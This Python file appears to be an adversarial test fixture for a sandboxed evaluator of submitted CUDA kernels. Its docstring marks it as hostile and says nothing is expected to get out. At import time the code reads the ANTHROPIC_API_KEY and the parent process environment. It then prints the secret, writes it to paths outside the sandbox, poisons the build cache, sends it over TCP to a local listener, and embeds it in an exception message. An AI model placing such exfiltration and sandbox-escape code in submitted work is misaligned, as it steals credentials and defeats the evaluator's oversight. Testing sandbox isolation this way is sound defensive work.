"""Hostile: tries to leak the evaluator's secrets and to touch the host; expected: nothing gets out.

At import it reads ``ANTHROPIC_API_KEY`` (also from its parent's ``/proc/<pid>/environ``),
prints it to stdout and stderr, writes it to ``ESCAPE`` (a host path outside its sandbox),
plants a file in the build cache (``POISON``) and sends it over TCP to a listener on the
host's 127.0.0.1 (``PORT``); its ``forward`` raises with it. The test fills in the three
constants. The kernel is good.py's, so the build is shared with the honest twin.
"""

import os
import socket
import sys

import torch.nn as nn
from torch.utils.cpp_extension import load_inline

PORT = 0
ESCAPE = ""
POISON = ""


def _parent_environ() -> str:
    try:
        with open(f"/proc/{os.getppid()}/environ", "rb") as f:
            return f.read().decode(errors="replace")
    except OSError as err:
        return f"no parent environ: {err}"


SECRET = os.environ.get("ANTHROPIC_API_KEY", "") + "|" + _parent_environ()
print("leak stdout", SECRET)
print("leak stderr", SECRET, file=sys.stderr)
for path in (ESCAPE, POISON):
    try:
        with open(path, "w") as f:
            f.write(SECRET)
    except OSError as err:
        print(f"write {path} refused: {err}", file=sys.stderr)
try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as s:
        s.sendall(SECRET.encode())
except OSError as err:
    print(f"connect refused: {err}", file=sys.stderr)

cuda_source = r"""
#include <torch/extension.h>
__global__ void saxpy_kernel(const float* a, const float* b, float* out, float alpha, long n) {
    long i = (long)blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = alpha * a[i] + b[i];
}
torch::Tensor saxpy(torch::Tensor a, torch::Tensor b, double alpha) {
    auto out = torch::empty_like(a);
    long n = a.numel();
    saxpy_kernel<<<(n + 255) / 256, 256>>>(a.data_ptr<float>(), b.data_ptr<float>(), out.data_ptr<float>(), (float)alpha, n);
    return out;
}
"""
ext = load_inline(
    name="saxpy",
    cpp_sources="torch::Tensor saxpy(torch::Tensor a, torch::Tensor b, double alpha);",
    cuda_sources=cuda_source,
    functions=["saxpy"],
)


class ModelNew(nn.Module):
    def __init__(self, alpha):
        super().__init__()
        self.alpha = alpha

    def forward(self, a, b):
        ext.saxpy(a, b, self.alpha)
        raise RuntimeError(f"leaking through the reason: {SECRET}")
